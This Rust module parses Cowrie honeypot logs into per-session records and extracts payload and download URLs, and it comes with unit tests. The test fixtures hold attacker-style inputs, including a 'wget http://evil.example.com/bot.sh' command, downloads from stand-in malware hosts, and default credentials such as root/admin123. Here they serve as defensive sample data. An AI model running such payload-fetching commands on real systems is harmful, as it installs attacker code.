//! Cowrie log parsing and session reconstruction
//!
//! Rebuilds interactive sessions from an unordered, possibly partial
//! event log. Each session id gets its own state machine driven by that
//! session's events in timestamp order; every transition only touches its
//! own fields, so missing or repeated events degrade gracefully.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use once_cell::sync::Lazy;
use regex::Regex;
use url::Url;

use crate::logsource::HitEvent;
use crate::models::parse_session_id;

/// Commands longer than this are truncated before storage.
const MAX_COMMAND_LEN: usize = 1024;

static URL_WITH_PROTOCOL: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?:htt|ft|tc|lda)ps?://[a-zA-Z\d_-]{1,200}(?:\.[a-zA-Z\d_-]{1,200})+(?::\d{2,6})?(?:/[a-zA-Z\d_=-]{1,200})*(?:\.\w+)?",
    )
    .expect("invalid URL regex")
});

/// An embedded payload URL found in an event message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadRef {
    pub source_ip: String,
    pub url: String,
    pub hostname: String,
}

/// A file-download attempt observed in a session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DownloadRef {
    pub source_ip: String,
    pub url: String,
    pub hostname: String,
}

/// File-transfer attributes carried by a download/upload event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileTransferDraft {
    pub shasum: String,
    pub url: Option<String>,
    pub destination_file: Option<String>,
}

/// In-memory reconstruction of one session, before persistence.
#[derive(Debug, Clone)]
pub struct SessionDraft {
    pub session_id: i64,
    pub source_ip: String,
    pub start_time: Option<DateTime<Utc>>,
    pub duration: f64,
    pub login_attempt: bool,
    pub command_execution: bool,
    pub interaction_count: i32,
    pub credentials: Vec<String>,
    pub commands: Vec<String>,
    pub commands_first_seen: Option<DateTime<Utc>>,
    pub commands_last_seen: Option<DateTime<Utc>>,
    pub file_transfer: Option<FileTransferDraft>,
}

impl SessionDraft {
    fn new(session_id: i64, source_ip: String) -> Self {
        Self {
            session_id,
            source_ip,
            start_time: None,
            duration: 0.0,
            login_attempt: false,
            command_execution: false,
            interaction_count: 0,
            credentials: vec![],
            commands: vec![],
            commands_first_seen: None,
            commands_last_seen: None,
            file_transfer: None,
        }
    }
}

/// Find the first embedded URL (with protocol) in a text.
pub fn find_url_in_message(message: &str) -> Option<(String, String)> {
    let matched = URL_WITH_PROTOCOL.find(message)?.as_str().to_string();
    let hostname = Url::parse(&matched).ok()?.host_str()?.to_string();
    Some((matched, hostname))
}

fn normalize_nul(text: &str) -> String {
    text.replace('\0', "[NUL]")
}

fn truncate_chars(text: &str, limit: usize) -> String {
    text.chars().take(limit).collect()
}

/// Extract payload URLs embedded in login-failure and file-upload messages.
pub fn extract_payloads(hits: &[HitEvent]) -> Vec<PayloadRef> {
    let mut results = vec![];
    for hit in hits {
        let eventid = hit.eventid.as_deref().unwrap_or("");
        if eventid != "cowrie.login.failed" && eventid != "cowrie.session.file_upload" {
            continue;
        }
        let Some(src_ip) = hit.src_ip.as_deref() else {
            continue;
        };
        let message = hit.message.as_deref().unwrap_or("");
        if let Some((url, hostname)) = find_url_in_message(message) {
            results.push(PayloadRef {
                source_ip: src_ip.to_string(),
                url,
                hostname,
            });
        }
    }
    results
}

/// Extract file-download attempts carrying a URL.
pub fn extract_downloads(hits: &[HitEvent]) -> Vec<DownloadRef> {
    let mut results = vec![];
    for hit in hits {
        if hit.eventid.as_deref() != Some("cowrie.session.file_download") {
            continue;
        }
        let (Some(src_ip), Some(url)) = (hit.src_ip.as_deref(), hit.url.as_deref()) else {
            continue;
        };
        if url.is_empty() {
            continue;
        }
        let Some(hostname) = Url::parse(url).ok().and_then(|u| u.host_str().map(String::from))
        else {
            tracing::warn!(url, "failed to parse download URL");
            continue;
        };
        results.push(DownloadRef {
            source_ip: src_ip.to_string(),
            url: url.to_string(),
            hostname,
        });
    }
    results
}

/// Aggregate a chunk's events into per-session drafts.
///
/// Events with a malformed session id, and sessions with no source IP at
/// all, are dropped with a debug log; everything else in the chunk is
/// still processed.
pub fn reconstruct_sessions(hits: &[HitEvent]) -> Vec<SessionDraft> {
    let mut hits_per_session: BTreeMap<i64, Vec<&HitEvent>> = BTreeMap::new();
    for hit in hits {
        let Some(raw_sid) = hit.session.as_deref() else {
            continue;
        };
        let sid = match parse_session_id(raw_sid) {
            Ok(sid) => sid,
            Err(e) => {
                tracing::debug!(session = raw_sid, error = %e, "dropping event");
                continue;
            }
        };
        hits_per_session.entry(sid).or_default().push(hit);
    }

    let mut sessions = vec![];
    for (sid, mut session_hits) in hits_per_session {
        session_hits.sort_by_key(|h| h.timestamp);

        let Some(source_ip) = session_hits
            .iter()
            .find_map(|h| h.src_ip.clone().filter(|ip| !ip.trim().is_empty()))
        else {
            tracing::debug!(session_id = sid, "session has no source IP");
            continue;
        };

        let mut draft = SessionDraft::new(sid, source_ip);
        for hit in session_hits {
            apply_event(&mut draft, hit);
        }
        sessions.push(draft);
    }
    sessions
}

/// Apply one event to a session draft. Transitions are idempotent on the
/// fields they touch; unknown event ids still count as interactions.
fn apply_event(draft: &mut SessionDraft, hit: &HitEvent) {
    match hit.eventid.as_deref().unwrap_or("") {
        "cowrie.session.connect" => {
            draft.start_time = hit.timestamp;
        }
        "cowrie.login.failed" | "cowrie.login.success" => {
            draft.login_attempt = true;
            let username = normalize_nul(hit.username.as_deref().unwrap_or(""));
            let password = normalize_nul(hit.password.as_deref().unwrap_or(""));
            draft.credentials.push(format!("{username} | {password}"));
        }
        "cowrie.command.input" => {
            draft.command_execution = true;
            if draft.commands_first_seen.is_none() {
                draft.commands_first_seen = hit.timestamp;
            }
            let message = hit.message.as_deref().unwrap_or("");
            let command = message.strip_prefix("CMD: ").unwrap_or(message);
            draft
                .commands
                .push(truncate_chars(&normalize_nul(command), MAX_COMMAND_LEN));
            draft.commands_last_seen = hit.timestamp;
        }
        "cowrie.session.file_download" | "cowrie.session.file_upload" => {
            // only transfers carrying a content hash are recorded
            if let Some(shasum) = hit.shasum.as_deref().filter(|s| !s.is_empty()) {
                draft.file_transfer = Some(FileTransferDraft {
                    shasum: shasum.to_string(),
                    url: hit.url.clone(),
                    destination_file: hit.destfile.clone(),
                });
            }
        }
        "cowrie.session.closed" => {
            draft.duration = hit.duration.unwrap_or(0.0);
        }
        _ => {}
    }
    draft.interaction_count += 1;
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::NaiveDateTime;

    fn ts(s: &str) -> DateTime<Utc> {
        NaiveDateTime::parse_from_str(s, "%Y-%m-%d %H:%M:%S")
            .unwrap()
            .and_utc()
    }

    fn event(sid: &str, eventid: &str, time: &str) -> HitEvent {
        HitEvent {
            timestamp: Some(ts(time)),
            src_ip: Some("185.220.101.4".to_string()),
            eventid: Some(eventid.to_string()),
            session: Some(sid.to_string()),
            ..Default::default()
        }
    }

    #[test]
    fn reconstructs_a_full_session() {
        let mut login = event("a1b2c3d4e5f6", "cowrie.login.failed", "2026-08-01 10:00:05");
        login.username = Some("root".to_string());
        login.password = Some("admin123".to_string());
        let mut cmd = event("a1b2c3d4e5f6", "cowrie.command.input", "2026-08-01 10:00:09");
        cmd.message = Some("CMD: wget http://evil.example.com/bot.sh".to_string());
        let mut closed = event("a1b2c3d4e5f6", "cowrie.session.closed", "2026-08-01 10:00:20");
        closed.duration = Some(15.2);

        let hits = vec![
            event("a1b2c3d4e5f6", "cowrie.session.connect", "2026-08-01 10:00:00"),
            login,
            cmd,
            closed,
        ];
        let sessions = reconstruct_sessions(&hits);
        assert_eq!(sessions.len(), 1);
        let s = &sessions[0];
        assert_eq!(s.session_id, 0xa1b2c3d4e5f6);
        assert_eq!(s.source_ip, "185.220.101.4");
        assert_eq!(s.start_time, Some(ts("2026-08-01 10:00:00")));
        assert!(s.login_attempt);
        assert_eq!(s.credentials, vec!["root | admin123"]);
        assert!(s.command_execution);
        assert_eq!(s.commands, vec!["wget http://evil.example.com/bot.sh"]);
        assert_eq!(s.commands_first_seen, Some(ts("2026-08-01 10:00:09")));
        assert_eq!(s.duration, 15.2);
        assert_eq!(s.interaction_count, 4);
    }

    #[test]
    fn events_out_of_order_are_sorted_first() {
        let mut closed = event("000000000001", "cowrie.session.closed", "2026-08-01 10:00:20");
        closed.duration = Some(20.0);
        let mut cmd1 = event("000000000001", "cowrie.command.input", "2026-08-01 10:00:10");
        cmd1.message = Some("CMD: ls".to_string());
        let mut cmd2 = event("000000000001", "cowrie.command.input", "2026-08-01 10:00:05");
        cmd2.message = Some("CMD: whoami".to_string());

        // arrival order: closed, cmd1, cmd2
        let sessions = reconstruct_sessions(&[closed, cmd1, cmd2]);
        assert_eq!(sessions[0].commands, vec!["whoami", "ls"]);
        assert_eq!(
            sessions[0].commands_first_seen,
            Some(ts("2026-08-01 10:00:05"))
        );
        assert_eq!(
            sessions[0].commands_last_seen,
            Some(ts("2026-08-01 10:00:10"))
        );
    }

    #[test]
    fn nul_bytes_are_replaced_and_commands_truncated() {
        let mut login = event("000000000002", "cowrie.login.failed", "2026-08-01 10:00:00");
        login.username = Some("ro\0ot".to_string());
        login.password = Some("\0".to_string());
        let mut cmd = event("000000000002", "cowrie.command.input", "2026-08-01 10:00:01");
        cmd.message = Some(format!("CMD: {}", "x".repeat(3000)));

        let sessions = reconstruct_sessions(&[login, cmd]);
        assert_eq!(sessions[0].credentials, vec!["ro[NUL]ot | [NUL]"]);
        assert_eq!(sessions[0].commands[0].chars().count(), 1024);
    }

    #[test]
    fn command_without_prefix_is_kept_verbatim() {
        let mut cmd = event("000000000003", "cowrie.command.input", "2026-08-01 10:00:00");
        cmd.message = Some("uname -a".to_string());
        let sessions = reconstruct_sessions(&[cmd]);
        assert_eq!(sessions[0].commands, vec!["uname -a"]);
    }

    #[test]
    fn malformed_session_ids_only_drop_the_offending_event() {
        let good = event("00000000000a", "cowrie.session.connect", "2026-08-01 10:00:00");
        let bad = event("not-hex!", "cowrie.session.connect", "2026-08-01 10:00:00");
        let sessions = reconstruct_sessions(&[bad, good]);
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].session_id, 10);
    }

    #[test]
    fn file_transfer_requires_content_hash() {
        let mut with_hash = event(
            "000000000004",
            "cowrie.session.file_download",
            "2026-08-01 10:00:00",
        );
        with_hash.shasum = Some("d0f2".to_string());
        with_hash.url = Some("http://evil.example.com/x.sh".to_string());
        with_hash.destfile = Some("/tmp/x.sh".to_string());
        let without_hash = event(
            "000000000005",
            "cowrie.session.file_download",
            "2026-08-01 10:00:00",
        );

        let sessions = reconstruct_sessions(&[with_hash, without_hash]);
        let by_id: std::collections::HashMap<i64, _> =
            sessions.iter().map(|s| (s.session_id, s)).collect();
        assert!(by_id[&4].file_transfer.is_some());
        assert!(by_id[&5].file_transfer.is_none());
        assert_eq!(by_id[&4].file_transfer.as_ref().unwrap().shasum, "d0f2");
    }

    #[test]
    fn payload_urls_found_in_messages() {
        let mut hit = event("000000000006", "cowrie.login.failed", "2026-08-01 10:00:00");
        hit.message =
            Some("login attempt [root/http://malware.example.net:8080/payload.bin]".to_string());
        let payloads = extract_payloads(&[hit]);
        assert_eq!(payloads.len(), 1);
        assert_eq!(payloads[0].hostname, "malware.example.net");
        assert!(payloads[0].url.starts_with("http://malware.example.net"));
    }

    #[test]
    fn plain_messages_yield_no_payloads() {
        let mut hit = event("000000000007", "cowrie.login.failed", "2026-08-01 10:00:00");
        hit.message = Some("login attempt [root/123456] failed".to_string());
        assert!(extract_payloads(&[hit]).is_empty());
    }

    #[test]
    fn downloads_extracted_from_url_field() {
        let mut hit = event(
            "000000000008",
            "cowrie.session.file_download",
            "2026-08-01 10:00:00",
        );
        hit.url = Some("http://payload.example.org/m.sh".to_string());
        let downloads = extract_downloads(&[hit]);
        assert_eq!(downloads.len(), 1);
        assert_eq!(downloads[0].hostname, "payload.example.org");
    }
}
